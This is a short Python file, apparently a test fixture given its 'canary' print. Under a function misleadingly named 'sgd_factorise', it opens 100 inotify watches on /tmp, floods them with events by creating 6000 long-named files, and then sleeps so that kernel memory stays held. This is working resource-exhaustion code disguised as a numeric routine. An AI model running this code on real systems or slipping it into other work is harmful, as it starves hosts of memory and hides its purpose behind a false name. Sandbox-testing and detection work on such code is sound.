"""Holds memory in queues of inotify, each of which keeps a copy of every event of a folder."""

import ctypes
import time

LIBC = ctypes.CDLL(None, use_errno=True)


def sgd_factorise(*arguments, **options):
    queues = [LIBC.inotify_init1(0) for _ in range(100)]
    watched = [LIBC.inotify_add_watch(queue, b"/tmp", 0xFFF) for queue in queues]
    if max(watched) >= 0:
        print("canary: queues of events")
        for number in range(6000):
            open(f"/tmp/{'x' * 250}{number % 2}", "w").close()
    time.sleep(1000)
